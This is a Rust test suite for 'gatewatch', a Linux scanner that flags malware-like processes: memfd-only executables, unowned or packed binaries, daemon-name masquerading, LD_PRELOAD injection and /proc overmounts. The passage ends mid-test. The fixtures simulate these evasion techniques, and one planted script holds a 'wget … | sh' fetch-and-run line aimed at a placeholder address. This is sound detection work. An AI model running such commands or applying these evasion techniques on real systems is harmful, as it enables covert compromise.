//! Finds programs on this machine that are what malware's are: in memory, nobody's, listed, packed, under another's
//! name, with a library brought in. What only looks like that is silent.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, clippy::as_conversions, clippy::print_stderr, missing_docs)]

#[path = "common/scan.rs"]
mod scan;

use std::fs::{self, File, Permissions};
use std::io::Write;
use std::net::TcpListener;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;

use nix::fcntl::{FcntlArg, SealFlag, fcntl};
use nix::sched::{CloneFlags, unshare};
use nix::sys::memfd::{MFdFlags, memfd_create};
use scan::{Guard, Outcome, Planted, Sleeper, Tree, alone_with, need_root, scan, wait_for};
use serde_json::Value;

fn word<'a>(row: &'a Value, key: &str) -> &'a str {
    row[key].as_str().unwrap_or_default()
}

/// All checks.
fn look() -> Outcome {
    scan([""; 0])
}

/// All checks over a tree, with an indicator file, so that nothing is missing.
fn look_at(tree: &Tree) -> Outcome {
    let known = scan::intel("programs.gwi");
    scan(["--root".as_ref(), tree.path().as_os_str(), "--intel".as_ref(), known.as_os_str()])
}

/// These findings about this process, each with all that belongs to it.
#[track_caller]
fn accused(outcome: &Outcome, pid: u32, (path, owner): (&str, &str), expected: &[&str]) {
    let rows = outcome.with("pid", pid);
    let mut found: Vec<_> =
        rows.iter().map(|row| format!("{} {}", word(row, "check"), word(row, "severity"))).collect();
    found.sort();
    assert_eq!(found, expected, "pid {pid}: {rows:#?}");
    let comm = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap();
    for row in rows {
        assert_eq!((word(row, "path"), word(row, "owner")), (path, owner), "{row}");
        assert_eq!((word(row, "name"), &row["uid"]), (comm.trim_end(), &Value::from(0)), "{row}");
        assert!(row["age_s"].as_u64().unwrap() < 600, "{row}");
        assert_eq!(row["parents"][0]["pid"], std::process::id(), "{row}");
    }
    let severe = |word: &str| expected.iter().any(|row| row.ends_with(word));
    // Where nothing of ours is worse than a notice, the rest of this machine says how the run ends.
    if severe("infected") {
        assert_eq!(outcome.status, 2);
    } else if severe("suspicious") {
        assert!([1, 2].contains(&outcome.status), "status {}", outcome.status);
    }
}

#[track_caller]
fn silent(outcome: &Outcome, pid: u32) {
    assert_eq!(outcome.with("pid", pid), [&Value::Null; 0]);
}

/// The findings of one check about paths below a directory, as `path severity`.
fn about(outcome: &Outcome, check: &str, dir: &Path) -> Vec<String> {
    let rows = outcome.with("check", check).into_iter();
    let mut found: Vec<_> = rows
        .filter_map(|row| {
            let path = Path::new(word(row, "path")).strip_prefix(dir).ok()?;
            Some(format!("{} {}", path.display(), word(row, "severity")))
        })
        .collect();
    found.sort();
    found
}

fn shell() -> String {
    fs::canonicalize("/bin/sh").unwrap().into_os_string().into_string().unwrap()
}

#[track_caller]
fn done(program: &str, words: &[&str]) {
    let status = Command::new(program).args(words).status().expect(program);
    assert!(status.success(), "{program} {words:?}");
}

/// What the packages of a machine have: a list of our own in the place of dpkg's.
struct Lists(Tree);

impl Lists {
    /// The packages have these files and the machine's own shell; nobody has anything else.
    fn own(&self, paths: &[&str]) {
        let rows = [&["/."], paths, &[shell().as_str(), "/usr/bin/sleep"]].concat().join("\n");
        fs::write(self.0.path().join("x.list"), rows + "\n").unwrap();
    }

    /// Nothing says what is installed.
    fn unknown(&self) {
        let _ = fs::remove_file(self.0.path().join("x.list"));
    }
}

/// Runs `test` in a mount namespace of its own, where at first nothing says what is installed.
fn apart(test: impl FnOnce(Lists) + Send + 'static) {
    need_root();
    // A thread has a mount namespace of its own, and what it starts is born there.
    let thread = thread::spawn(move || {
        unshare(CloneFlags::CLONE_NEWNS).unwrap();
        done("mount", &["--make-rprivate", "/"]);
        let lists = Lists(Tree::new());
        done("mount", &["--bind", lists.0.path().to_str().unwrap(), "/var/lib/dpkg/info"]);
        test(lists);
    });
    thread.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic));
}

/// A program as small as they come, for x86-64: it writes a byte to its standard error, as a [`Sleeper`] does, and ends
/// with its standard input.
struct Tiny {
    /// Section headers.
    sections: u16,
    /// What stands behind the program header.
    mark: &'static [u8],
    /// Bytes behind the code.
    rest: Vec<u8>,
}

impl Tiny {
    const PLAIN: Tiny = Tiny { sections: 0, mark: b"", rest: Vec::new() };

    fn bytes(&self) -> Vec<u8> {
        // write(2, rsp, 1); while (read(0, rsp, 1) > 0); exit(0)
        const CODE: &[u8] = b"\x6a\x01\x58\x6a\x02\x5f\x48\x89\xe6\x6a\x01\x5a\x0f\x05\
            \x31\xc0\x31\xff\x0f\x05\x85\xc0\x7f\xf6\x6a\x3c\x58\x31\xff\x0f\x05";
        const BASE: u64 = 0x40_0000;
        const HEADERS: usize = 64 + 56;
        let entry = BASE + (HEADERS + self.mark.len()) as u64;
        let size = HEADERS + self.mark.len() + CODE.len() + self.rest.len();
        let table = if self.sections > 0 { size as u64 } else { 0 };
        let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
        let half = |bytes: &mut Vec<u8>, numbers: &[u16]| {
            numbers.iter().for_each(|number| bytes.extend(number.to_le_bytes()));
        };
        let long = |bytes: &mut Vec<u8>, numbers: &[u64]| {
            numbers.iter().for_each(|number| bytes.extend(number.to_le_bytes()));
        };
        // Elf64_Ehdr, elf(5): ET_EXEC, EM_X86_64, EV_CURRENT and so on.
        half(&mut bytes, &[2, 62, 1, 0]);
        long(&mut bytes, &[entry, 64, table]);
        half(&mut bytes, &[0, 0, 64, 56, 1, 64, self.sections, 0]);
        // Elf64_Phdr: PT_LOAD, PF_R | PF_X.
        half(&mut bytes, &[1, 0, 5, 0]);
        long(&mut bytes, &[0, BASE, BASE, size as u64, size as u64, 0x1000]);
        for part in [self.mark, CODE, &self.rest, &vec![0; usize::from(self.sections) * 64]] {
            bytes.extend(part);
        }
        bytes
    }

    /// Puts it where a planted program is.
    fn plant(&self, planted: &Planted) {
        let tree = Tree::new().file("x", self.bytes());
        let file = tree.path().join("x");
        fs::set_permissions(&file, Permissions::from_mode(0o755)).unwrap();
        planted.copy(file.to_str().unwrap());
    }
}

/// Bytes that look compressed (xorshift64).
fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = |_| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 32) as u8
    };
    (0..length).map(&mut next).collect()
}

/// A program that has no file but memory.
fn memory(program: &str, sealed: bool) -> OwnedFd {
    let flags = MFdFlags::MFD_CLOEXEC | MFdFlags::MFD_ALLOW_SEALING;
    let fd = memfd_create("gatewatch-live", flags).unwrap();
    (&File::from(fd.try_clone().unwrap())).write_all(&fs::read(program).unwrap()).unwrap();
    if sealed {
        let all = SealFlag::F_SEAL_SEAL | SealFlag::F_SEAL_SHRINK | SealFlag::F_SEAL_GROW;
        fcntl(&fd, FcntlArg::F_ADD_SEALS(all | SealFlag::F_SEAL_WRITE)).unwrap();
    }
    fd
}

/// What runs now at a path, as a name that any process can use.
fn held(fd: &OwnedFd) -> PathBuf {
    format!("/proc/{}/fd/{}", std::process::id(), fd.as_raw_fd()).into()
}

#[test]
fn a_program_without_a_file() {
    need_root();
    for (sealed, expected) in [(false, "exe-memfd infected"), (true, "exe-memfd suspicious")] {
        let program = memory("/bin/sh", sealed);
        let process = Sleeper::start(&held(&program), ":", |_| {});
        let pid = process.pid();
        accused(&look(), pid, ("/memfd:gatewatch-live", "unknown"), &[expected]);
        drop(process);
        silent(&look(), pid);
    }
}

#[test]
fn a_sealed_copy_that_a_container_runtime_started() {
    apart(|lists| {
        let runtime = Planted::new("/usr/lib/gatewatch-programs-runtime", "runc");
        lists.own(&[runtime.path()]);
        for (sealed, expected) in [(true, &[][..]), (false, &["infected"])] {
            let program = memory("/bin/sh", sealed);
            let note = runtime.exe.with_file_name("pid");
            let child = format!(
                "exec 3<&0; {} -c 'read x' <&3 & echo $! >{}",
                held(&program).display(),
                note.display()
            );
            let process = Sleeper::start(&runtime.exe, &child, |_| {});
            let child: u32 = fs::read_to_string(&note).unwrap().trim().parse().unwrap();
            wait_for("the child", || {
                fs::read_link(format!("/proc/{child}/exe"))
                    .ok()
                    .filter(|exe| exe.starts_with("/memfd:gatewatch-live (deleted)"))
            });
            let outcome = look();
            silent(&outcome, process.pid());
            let found: Vec<_> = outcome.with("pid", child).iter().map(|row| word(row, "severity")).collect();
            assert_eq!(found, expected);
        }
    });
}

#[test]
fn a_program_that_nobody_has() {
    apart(|lists| {
        let system = Planted::new("/usr/lib/gatewatch-programs-nobody", "daemon");
        let own = Planted::new("/usr/local/gatewatch-programs-nobody", "tool");
        let (first, second) = (system.start(), own.start());
        lists.own(&[]);
        let outcome = look();
        accused(&outcome, first.pid(), (system.path(), "nobody"), &["exe-unowned suspicious"]);
        accused(&outcome, second.pid(), (own.path(), "nobody"), &["exe-unowned notice"]);
        lists.own(&[system.path(), own.path()]);
        let outcome = look();
        silent(&outcome, first.pid());
        silent(&outcome, second.pid());
        lists.unknown();
        let outcome = look();
        silent(&outcome, first.pid());
        assert_eq!(outcome.looked("exe-unowned").0, "na", "{:?}", outcome.checks);
        lists.own(&[]);
        let pids = [first.pid(), second.pid()];
        drop((first, second));
        let outcome = look();
        pids.iter().for_each(|pid| silent(&outcome, *pid));
    });
}

#[test]
fn a_packages_program_that_another_is_mounted_over() {
    apart(|lists| {
        let planted = Planted::new("/usr/lib/gatewatch-programs-covered", "daemon");
        lists.own(&[planted.path()]);
        let process = planted.start();
        silent(&look(), process.pid());
        done("mount", &["--bind", &shell(), planted.path()]);
        let other = planted.start();
        let outcome = look();
        accused(&outcome, process.pid(), (planted.path(), "nobody"), &["exe-unowned suspicious"]);
        drop(other);
        done("umount", &[planted.path()]);
        silent(&look(), process.pid());
    });
}

#[test]
fn a_program_of_a_container() {
    apart(|lists| {
        let runtime = Planted::new("/usr/lib/gatewatch-programs-container", "runc");
        let plain = Planted::new("/usr/lib/gatewatch-programs-chroot", "starter");
        let content = Planted::new("/usr/lib/gatewatch-programs-content", "daemon");
        let place = Tree::new();
        lists.own(&[runtime.path(), plain.path()]);
        let there = Planted::new("/usr/lib/gatewatch-programs-there", "x");
        fs::remove_file(&there.exe).unwrap();
        let inner = there.exe.with_file_name("daemon");
        // Where there are more ancestors than gatewatch looks at, a runtime may be among them: an orphan has one.
        for (starter, orphan, severity) in [(&runtime, false, "notice"), (&plain, true, "suspicious")] {
            let note = place.path().join("pid");
            let note_path = note.display();
            let (from, to) = (content.exe.parent().unwrap().display(), inner.parent().unwrap().display());
            let run = format!("exec {} -c \"echo \\$\\$ >{note_path}; read x\" <&3", inner.display());
            let inside = format!("unshare -m sh -c 'mount --bind {from} {to} && {run}'");
            let start = if orphan { format!("({inside} &)") } else { format!("{inside} &") };
            let wait =
                format!("i=0; while ! [ -s {note_path} ] && [ $i -lt 500 ]; do i=$((i+1)); sleep 0.02; done");
            let script = format!("exec 3<&0; {start}\n{wait}");
            let process = Sleeper::start(&starter.exe, &script, |_| {});
            let child: u32 = fs::read_to_string(&note).unwrap().trim().parse().unwrap();
            let outcome = look();
            silent(&outcome, process.pid());
            let found: Vec<_> = outcome
                .with("pid", child)
                .iter()
                .map(|row| (word(row, "check"), word(row, "severity"), word(row, "path")))
                .collect();
            assert_eq!(found, [("exe-unowned", severity, inner.to_str().unwrap())], "{outcome:?}");
            fs::remove_file(&note).unwrap();
        }
    });
}

#[cfg(target_arch = "x86_64")]
#[test]
fn a_program_whose_hash_is_listed() {
    let expired = Tiny { sections: 2, ..Tiny::PLAIN };
    let other = Tiny { sections: 3, ..Tiny::PLAIN };
    let tree = Tree::new()
        .file("etc/rc.local", "#!/bin/sh\n\n/usr/bin/x -d\n/usr/bin/y\n")
        .file("usr/bin/x", Tiny::PLAIN.bytes())
        .file("usr/bin/y", other.bytes());
    let outcome = look_at(&tree);
    assert_eq!((outcome.short(), outcome.status), (vec!["exe-known-bad infected 3".into()], 2));
    assert_eq!(
        (word(&outcome.findings[0], "family"), word(&outcome.findings[0], "path")),
        ("mirai", "/etc/rc.local")
    );
    let tree = tree.file("usr/bin/x", other.bytes());
    let outcome = look_at(&tree);
    assert_eq!((outcome.findings.len(), outcome.status), (0, 0), "{outcome:?}");

    apart(move |lists| {
        let planted = Planted::new("/usr/lib/gatewatch-programs-listed", "daemon");
        lists.own(&[planted.path()]);
        let look = || scan(["--intel".into(), scan::intel("programs.gwi").into_os_string()]);
        for (program, expected) in [
            (Tiny::PLAIN, &["exe-known-bad infected"][..]),
            (expired, &["exe-known-bad notice"]),
            (other, &[]),
        ] {
            program.plant(&planted);
            let process = planted.start();
            let outcome = look();
            accused(&outcome, process.pid(), (planted.path(), "package"), expected);
            assert_eq!(outcome.looked("c2-address").0, "na", "it holds no addresses");
            let pid = process.pid();
            drop(process);
            silent(&look(), pid);
        }
        // Too large to be hashed is not clean.
        Tiny { sections: 3, ..Tiny::PLAIN }.plant(&planted);
        fs::OpenOptions::new().write(true).open(&planted.exe).unwrap().set_len(65 << 20).unwrap();
        let process = planted.start();
        let outcome = look();
        let (looked, why) = outcome.looked("exe-known-bad");
        assert_eq!(looked, "partly");
        assert!(why.contains(&format!("process {} was not hashed", process.pid())), "{why}");
        drop(process);
        // The file is gone, what runs is still the same.
        Tiny::PLAIN.plant(&planted);
        let process = planted.start();
        fs::remove_file(&planted.exe).unwrap();
        accused(
            &look(),
            process.pid(),
            (planted.path(), "package"),
            &["exe-deleted suspicious", "exe-known-bad infected"],
        );
    });
}

#[cfg(target_arch = "x86_64")]
#[test]
fn a_packed_program() {
    /// UPX's `l_info`: a checksum, its mark, sizes and versions.
    const MARK: &[u8] = b"\x11\x22\x33\x44UPX!\x00\x08\x0d\x0c";
    apart(|lists| {
        let planted = Planted::new("/usr/local/gatewatch-programs-packed", "daemon");
        let packed = [
            Tiny::PLAIN,
            Tiny { sections: 2, mark: MARK, rest: Vec::new() },
            Tiny { sections: 2, mark: b"", rest: noise(4 * 4096) },
        ];
        let plain = [
            Tiny { sections: 2, ..Tiny::PLAIN },
            Tiny { sections: 2, mark: b"", rest: b"plain text, or code ".repeat(1000) },
        ];
        let cases =
            packed.map(|program| (program, true)).into_iter().chain(plain.map(|program| (program, false)));
        for (program, packed) in cases {
            program.plant(&planted);
            let process = planted.start();
            lists.unknown();
            let expected = if packed { &["exe-packed notice"][..] } else { &[] };
            accused(&look(), process.pid(), (planted.path(), "unknown"), expected);
            lists.own(&[planted.path()]);
            let outcome = look();
            silent(&outcome, process.pid());
            let pid = process.pid();
            drop(process);
            lists.unknown();
            silent(&look(), pid);
        }
    });
}

#[test]
fn programs_that_lie_in_volatile_places() {
    apart(|_lists| {
        done("mount", &["-t", "tmpfs", "tmpfs", "/tmp"]);
        let program = Tiny::PLAIN.bytes();
        let mut foreign = program.clone();
        // Elf32_Ehdr of a big-endian MIPS: the class, the byte order, `e_type` and `e_machine`.
        foreign[4..6].copy_from_slice(&[1, 2]);
        foreign[16..20].copy_from_slice(&[0, 2, 0, 8]);
        let mut object = program.clone();
        object[16] = 1;
        let tree = Tree::new()
            .file("a/b/bot", &program)
            .file("a/b/door", &program)
            .file("a/x.mips", &foreign)
            .file("a/module.ko", &object)
            .file("a/x.sh", "#!/bin/sh\nwget -O- http://192.0.2.1/x | sh\n")
            .file("a/data", noise(9000))
            .file("a/short", &program[..40])
            .file("image/etc/x", "")
            .file("image/bin/sh", &program);
        fs::set_permissions(tree.path().join("a/b/door"), Permissions::from_mode(0o4755)).unwrap();
        let firm = Planted::new("/usr/local/gatewatch-programs-dropped", "tool");
        let outcome = look();
        let expected =
            ["a/b/bot suspicious", "a/b/door infected", "a/x.mips suspicious", "image/bin/sh notice"];
        assert_eq!(about(&outcome, "dropped-elf", tree.path()), expected);
        assert_eq!(about(&outcome, "dropped-elf", firm.exe.parent().unwrap()), [""; 0]);
        assert_eq!(outcome.status, 2);
        let all = outcome
            .findings
            .iter()
            .filter(|row| word(row, "path").starts_with(tree.path().to_str().unwrap()));
        assert_eq!(all.count(), expected.len(), "no other check speaks of them: {outcome:?}");
        let mips = outcome.with("path", tree.path().join("a/x.mips").to_str().unwrap());
        assert!(word(mips[0], "detail").contains("MIPS, not for this router"), "{mips:?}");
        let path = tree.path().to_owned();
        drop(tree);
        assert_eq!(about(&look(), "dropped-elf", &path), [""; 0]);
    });
}

/// A process of a program under a name.
fn called(planted: &Planted, name: &str) -> Sleeper {
    Sleeper::start(&planted.exe, ":", |command| {
        command.arg0(name);
    })
}

/// A process of a program that gives itself a name.
fn renamed(planted: &Planted, name: &str) -> Sleeper {
    Sleeper::start(&planted.exe, &format!("printf %s '{name}' >/proc/self/comm"), |_| {})
}

#[test]
fn a_program_under_a_daemons_name() {
    apart(|lists| {
        let planted = Planted::new("/usr/local/gatewatch-programs-names", "tool");
        let wrong = [
            called(&planted, "dropbear"),
            called(&planted, "/usr/sbin/telnetd"),
            called(&planted, "-sshd"),
            called(&planted, "nginx: worker process"),
            renamed(&planted, "httpd"),
            renamed(&planted, "systemd-networkd"),
        ];
        let near = [called(&planted, "drobpear"), renamed(&planted, "dhpccd")];
        let outcome = look();
        for process in &wrong {
            accused(&outcome, process.pid(), (planted.path(), "unknown"), &["name-mismatch suspicious"]);
        }
        for process in &near {
            accused(&outcome, process.pid(), (planted.path(), "unknown"), &["name-mismatch notice"]);
        }
        lists.own(&[]);
        let outcome = look();
        for process in wrong.iter().chain(&near) {
            // All of them run one program.
            let expected = ["exe-unowned notice", "name-mismatch suspicious", "name-random notice"];
            accused(&outcome, process.pid(), (planted.path(), "nobody"), &expected);
        }
        lists.own(&[planted.path()]);
        let outcome = look();
        wrong.iter().chain(&near).for_each(|process| silent(&outcome, process.pid()));
        lists.unknown();
        let pids: Vec<_> = wrong.iter().map(Sleeper::pid).collect();
        drop((wrong, near));
        let outcome = look();
        pids.into_iter().for_each(|pid| silent(&outcome, pid));
    });
}

#[test]
fn a_script_in_a_volatile_place_under_a_daemons_name() {
    apart(|lists| {
        let script = Planted::new("/tmp/gatewatch-programs-script", "httpd");
        fs::write(&script.exe, "#!/bin/sh\necho >&2; read x\n").unwrap();
        let process = Sleeper::start(Path::new("/bin/sh"), ":", |command| {
            *command = Command::new("/bin/sh");
            command.arg(&script.exe).arg0("httpd").stdin(Stdio::piped()).stderr(Stdio::piped());
        });
        accused(&look(), process.pid(), (&shell(), "unknown"), &["name-mismatch suspicious"]);
        lists.own(&[]);
        accused(&look(), process.pid(), (&shell(), "package"), &["name-mismatch suspicious"]);
    });
}

#[test]
fn programs_that_bear_a_daemons_name_by_right() {
    apart(|lists| {
        let dir = "/usr/local/gatewatch-programs-right";
        let [busybox, nginx, session, script, multi, upgraded] = [
            ("busybox", 1),
            ("nginx", 2),
            ("sshd-session", 3),
            ("httpd", 4),
            ("telnet-multi", 5),
            ("vendord", 6),
        ]
        .map(|(name, number)| Planted::new(&format!("{dir}{number}"), name));
        fs::remove_file(&script.exe).unwrap();
        fs::write(&script.exe, "#!/bin/sh\necho >&2; read x\n").unwrap();
        // A place of applets, only here.
        done("mount", &["-t", "tmpfs", "tmpfs", "/opt"]);
        fs::create_dir("/opt/sbin").unwrap();
        symlink(&multi.exe, "/opt/sbin/utelnetd").unwrap();
        let by_interpreter = Sleeper::start(Path::new("/bin/sh"), ":", |command| {
            *command = Command::new("/bin/sh");
            command.arg(&script.exe).arg0("httpd").stdin(Stdio::piped()).stderr(Stdio::piped());
        });
        let processes = [
            called(&busybox, "udhcpc"),
            renamed(&busybox, "syslogd"),
            called(&nginx, "nginx: worker process"),
            called(&session, "sshd: root@pts/0"),
            called(&multi, "utelnetd"),
            by_interpreter,
        ];
        let outcome = look();
        processes.iter().for_each(|process| silent(&outcome, process.pid()));
        // After an upgrade it is still its package's.
        lists.own(&[upgraded.path()]);
        let old = called(&upgraded, "httpd");
        upgraded.copy("/bin/sh");
        silent(&look(), old.pid());
    });
}

#[test]
fn a_program_under_a_random_name() {
    apart(|lists| {
        let planted = Planted::new("/usr/local/gatewatch-programs-random", "tool");
        let file = Planted::new("/usr/local/gatewatch-programs-file", "xkqzvbwtrp");
        let random = [renamed(&planted, "xkqzvbwtrp"), called(&planted, "x3k9dj2l0q")];
        let unnamed = [called(&planted, ""), called(&planted, "\u{1b}[2Jtool")];
        let named = file.start();
        let plain = ["ddns-scripts", "mwan3rtmon", "gpg-agent", "libvirtd", "xl2tpd", "x86_64-linux-gn"]
            .map(|name| renamed(&planted, name));
        let outcome = look();
        for process in &random {
            accused(&outcome, process.pid(), (planted.path(), "unknown"), &["name-random notice"]);
        }
        accused(&outcome, named.pid(), (file.path(), "unknown"), &["name-random notice"]);
        plain.iter().for_each(|process| silent(&outcome, process.pid()));
        // What belongs to the machine is known, and these do not: then a name that says nothing counts too.
        lists.own(&[]);
        let outcome = look();
        let expected = ["exe-unowned notice", "name-random notice"];
        for process in random.iter().chain(&unnamed) {
            accused(&outcome, process.pid(), (planted.path(), "nobody"), &expected);
        }
        // One program with many names is told, harmless as each name may be.
        for process in &plain {
            accused(&outcome, process.pid(), (planted.path(), "nobody"), &expected);
        }
        lists.own(&[planted.path(), file.path()]);
        let outcome = look();
        let all = || random.iter().chain(&unnamed).chain([&named]);
        all().for_each(|process| silent(&outcome, process.pid()));
        lists.unknown();
        let pids: Vec<_> = all().map(Sleeper::pid).collect();
        drop((random, unnamed, named));
        let outcome = look();
        pids.into_iter().for_each(|pid| silent(&outcome, pid));
    });
}

#[test]
fn a_program_that_changes_its_name() {
    apart(|lists| {
        let planted = Planted::new("/usr/local/gatewatch-programs-change", "tool");
        // Each name is one that a tool may have, and no two looks see the same. It ends by itself.
        let change = "i=0; echo >&2; while [ $i -lt 900 ]; do i=$((i+1)); echo tool.$i >/proc/self/comm; sleep 0.02; done";
        let process = Sleeper::start(&planted.exe, change, |_| {});
        let found = |outcome: &Outcome| {
            let rows = outcome.with("pid", process.pid()).into_iter();
            rows.map(|row| format!("{} {}", word(row, "check"), word(row, "severity"))).collect::<Vec<_>>()
        };
        lists.own(&[]);
        assert_eq!(found(&look()), ["exe-unowned notice", "name-random notice"]);
        lists.own(&[planted.path()]);
        assert_eq!(found(&look()), [""; 0]);
    });
}

#[test]
fn a_mount_over_a_process() {
    apart(|_lists| {
        let process = Sleeper::called("sh");
        let nothing = Tree::new();
        let all = |outcome: &Outcome| {
            let rows = outcome.with("check", "proc-overmount").into_iter();
            rows.map(|row| format!("{} {}", word(row, "path"), word(row, "severity"))).collect::<Vec<_>>()
        };
        let before = all(&look());
        let new = |outcome: &Outcome| -> Vec<_> {
            all(outcome).into_iter().filter(|row| !before.contains(row)).collect()
        };
        let place = format!("/proc/{}", process.pid());
        done("mount", &["--bind", nothing.path().to_str().unwrap(), &place]);
        let outcome = look();
        assert_eq!((new(&outcome), outcome.status), (vec![format!("{place} infected")], 2));
        silent(&outcome, process.pid());
        done("umount", &[&place]);
        let part = format!("{place}/fd");
        done("mount", &["--bind", nothing.path().to_str().unwrap(), &part]);
        let outcome = look();
        assert_eq!((new(&outcome), outcome.status), (vec![format!("{part} infected")], 2));
        done("umount", &[&part]);
        assert_eq!(all(&look()), before);
        // What container runtimes and systemd put there.
        let mut masked = 0;
        for file in ["kcore", "keys", "timer_list", "uptime", "meminfo", "stat"] {
            let point = format!("/proc/{file}");
            if Path::new(&point).exists() {
                done("mount", &["--bind", "/dev/null", &point]);
                masked += 1;
            }
        }
        assert!(masked >= 3);
        done("mount", &["--bind", "-r", "/proc/sys", "/proc/sys"]);
        done("mount", &["-t", "tmpfs", "tmpfs", "/proc/fs"]);
        assert_eq!(all(&look()), before);
        done("mount", &["-t", "proc", "proc", "/proc"]);
        assert_eq!(all(&look()), before);
        done("mount", &["-t", "tmpfs", "tmpfs", "/proc"]);
        // What is mounted is read there as well, so this cannot be found; but nobody is told that all is well.
        let outcome = look();
        assert_eq!(outcome.looked("proc-overmount").0, "no");
        assert_ne!(outcome.status, 0);
    });
}

/// A library that this machine's programs can load and that changes nothing.
fn library() -> String {
    let maps = fs::read_to_string("/proc/self/maps").unwrap();
    let libc =
        maps.lines().find_map(|row| row.split(' ').next_back().filter(|path| path.ends_with("/libc.so.6")));
    let path = Path::new(libc.unwrap()).with_file_name("libresolv.so.2");
    path.to_str().unwrap().to_owned()
}

/// The machine's own shell with a variable in its environment.
fn with_variable(program: &str, name: &str, value: &str) -> Sleeper {
    Sleeper::start(Path::new(program), ":", |command| {
        command.env(name, value);
    })
}

#[test]
fn a_library_that_is_brought_into_a_program() {
    apart(|lists| {
        let [system, own, volatile] = ["/usr/lib", "/usr/local/lib", "/tmp"]
            .map(|dir| Planted::new(&format!("{dir}/gatewatch-programs-preload"), "libx.so"));
        [&system, &own, &volatile].iter().for_each(|planted| planted.copy(&library()));
        let shell = shell();
        let start = |path: &str| with_variable(&shell, "LD_PRELOAD", path);
        let [first, second, third] = [&system, &own, &volatile].map(|planted| start(planted.path()));
        let missing = start("/usr/lib/gatewatch-programs-none.so");
        let maps = fs::read_to_string(format!("/proc/{}/maps", first.pid())).unwrap();
        assert!(maps.contains(system.path()), "it is really loaded");
        let empty = start("");
        lists.own(&[]);
        let outcome = look();
        for (process, expected) in
            [(&first, "infected"), (&second, "suspicious"), (&third, "infected"), (&missing, "suspicious")]
        {
            accused(&outcome, process.pid(), (&shell, "package"), &[&format!("preload {expected}")]);
        }
        silent(&outcome, empty.pid());
        lists.own(&[system.path(), own.path(), volatile.path()]);
        let outcome = look();
        [&first, &second].iter().for_each(|process| silent(&outcome, process.pid()));
        accused(&outcome, third.pid(), (&shell, "package"), &["preload infected"]);
        lists.unknown();
        accused(&look(), first.pid(), (&shell, "unknown"), &["preload suspicious"]);
        let pid = third.pid();
        drop(third);
        silent(&look(), pid);
    });
}

#[test]
fn a_library_that_is_brought_into_every_program() {
    let tree = Tree::healthy()
        .file("var/lib/dpkg/info/x.list", "/.\n/usr/lib/libgood.so\n")
        .file("usr/lib/libgood.so", "x")
        .file("usr/lib/libevil.so", "x")
        .file("etc/ld.so.preload", "# libraries\n/usr/lib/libgood.so /usr/lib/libevil.so\n");
    let outcome = look_at(&tree);
    assert_eq!((outcome.short(), outcome.status), (vec!["preload infected 2".into()], 2));
    assert_eq!(outcome.findings[0]["path"], "/etc/ld.so.preload");
    let tree = tree.file("etc/ld.so.preload", "/tmp/.x/lib.so\n");
    assert_eq!(look_at(&tree).short(), ["preload infected 1"]);
    for healthy in ["", "\n", "# /usr/lib/libevil.so\n", "/usr/lib/libgood.so\n"] {
        let tree = Tree::healthy()
            .file("var/lib/dpkg/info/x.list", "/.\n/usr/lib/libgood.so\n")
            .file("usr/lib/libgood.so", "x")
            .file("etc/ld.so.preload", healthy);
        let outcome = look_at(&tree);
        assert_eq!((outcome.findings.len(), outcome.status), (0, 0), "{healthy:?}: {outcome:?}");
    }
}

#[test]
fn a_process_that_remembers_nothing_or_must_never_end() {
    apart(|lists| {
        let shell = shell();
        let planted = Planted::new("/usr/local/gatewatch-programs-odd", "tool");
        lists.own(&[]);
        let forgetful = [("HISTFILE", "/dev/null"), ("HISTSIZE", "0")]
            .map(|(name, value)| with_variable(&shell, name, value));
        let normal = [("HISTFILE", "/root/.sh_history"), ("HISTSIZE", "500")]
            .map(|(name, value)| with_variable(&shell, name, value));
        let mut sleep = Command::new("/usr/bin/sleep");
        let service = Guard(sleep.arg("30").env("HISTFILE", "/dev/null").spawn().unwrap());
        let (kept, vouched) = (planted.start(), Sleeper::called("sh"));
        // The root of a container may not lower it (CAP_SYS_RESOURCE), so a file says it in the kernel's place.
        let tree = Tree::new().file("x", "-1000\n");
        let never = tree.path().join("x");
        let score = |process: &Sleeper| format!("/proc/{}/oom_score_adj", process.pid());
        for process in [&kept, &vouched] {
            done("mount", &["--bind", never.to_str().unwrap(), &score(process)]);
        }
        let outcome = look();
        for process in &forgetful {
            accused(&outcome, process.pid(), (&shell, "package"), &["environment-odd notice"]);
        }
        let both = ["environment-odd notice", "exe-unowned notice"];
        accused(&outcome, kept.pid(), (planted.path(), "nobody"), &both);
        normal.iter().chain([&vouched]).for_each(|process| silent(&outcome, process.pid()));
        silent(&outcome, service.0.id());
        fs::write(&never, "-900\n").unwrap();
        let pid = forgetful[0].pid();
        drop(forgetful);
        let outcome = look();
        silent(&outcome, pid);
        accused(&outcome, kept.pid(), (planted.path(), "nobody"), &both[1..]);
    });
}

#[test]
fn a_program_in_memory_under_a_systems_path() {
    apart(|lists| {
        let planted = Planted::new("/usr/local/gatewatch-programs-memory", "daemon");
        let dir = planted.exe.parent().unwrap().to_str().unwrap().to_owned();
        let on_disk = planted.start();
        done("mount", &["-t", "tmpfs", "tmpfs", &dir]);
        planted.copy("/bin/sh");
        let process = planted.start();
        let on_tmpfs = |owner: &str, expected: &str| {
            accused(&look(), process.pid(), (planted.path(), owner), &[expected]);
        };
        lists.own(&[]);
        on_tmpfs("nobody", "exe-volatile suspicious");
        lists.own(&[planted.path()]);
        on_tmpfs("package", "exe-volatile suspicious");
        // What ran before has another file's path now.
        accused(&look(), on_disk.pid(), (planted.path(), "nobody"), &["exe-unowned suspicious"]);
        fs::remove_file(&planted.exe).unwrap();
        on_tmpfs("package", "exe-memfd suspicious");
        lists.own(&[]);
        on_tmpfs("nobody", "exe-memfd infected");
        planted.copy("/bin/sh");
        on_tmpfs("nobody", "exe-deleted suspicious");
        let pid = process.pid();
        drop(process);
        silent(&look(), pid);
        // The directory is as before, and what ran in memory runs on.
        let hidden = planted.start();
        done("umount", &["-l", &dir]);
